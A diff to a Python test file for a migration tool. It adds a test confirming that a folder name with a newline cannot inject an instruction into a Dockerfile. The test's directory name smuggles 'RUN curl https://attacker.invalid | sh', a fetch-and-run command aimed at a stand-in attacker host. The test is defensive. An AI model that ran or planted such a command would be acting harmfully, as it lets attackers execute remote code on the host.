@@ -178,3 +178,13 @@ def test_a_fifo_named_like_python_does_not_hang_migrate(project: Path) -> None:
     os.mkfifo(project / "pipe.py")
     output = migrate(project)
     assert "pipe.py: a symbolic link or not a regular file" in output
+
+
+def test_a_folder_name_cannot_inject_into_the_dockerfile(tmp_path: Path) -> None:
+    root = tmp_path / "x\nRUN curl https://attacker.invalid | sh #"
+    (root / "server").mkdir(parents=True)
+    (root / "server" / "app.py").write_text(REFERENCE_APP)
+    (root / "server" / "Dockerfile").write_text(REFERENCE_DOCKERFILE)
+    migrate(root)
+    assert (root / "server" / "Dockerfile").read_text() == REFERENCE_DOCKERFILE
+    assert not (root / "server" / "Dockerfile.reference").exists()
